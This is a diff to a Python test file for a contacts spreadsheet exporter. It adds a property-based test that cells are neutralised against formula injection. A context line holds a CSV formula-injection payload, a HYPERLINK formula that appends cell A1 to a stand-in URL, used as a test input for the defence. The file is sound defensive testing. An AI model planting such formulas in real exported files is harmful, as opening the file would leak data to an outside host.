@@ -7,9 +7,12 @@ import io
 import openpyxl
 import pandas as pd
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from contacts.importfile import ImportReader
 from contacts.spreadsheet import (
+    FORMULA_TRIGGERS,
     dataframe_to_csv_bytes,
     dataframe_to_xlsx_bytes,
     rows_to_csv_bytes,
@@ -119,3 +122,12 @@ def test_imported_formula_cell_is_neutralised_on_export(data_file):
     rows = {r.row: r for r in ImportReader(data_file("excel-cp1252-semicolon.csv"))}
     exported = read_csv(rows_to_csv_bytes(["Prénom"], [[rows[9].first_name]]))
     assert exported[1] == ["'" + '=HYPERLINK("http://x?"&A1;"clic")']
+
+
+@settings(max_examples=200)
+@given(st.text(max_size=20))
+def test_no_text_leaves_safe_cell_starting_a_formula(value):
+    out = safe_cell(value)
+    assert not out or (
+        out[0] not in FORMULA_TRIGGERS and out.lstrip(" \u00a0")[:1] not in FORMULA_TRIGGERS
+    )
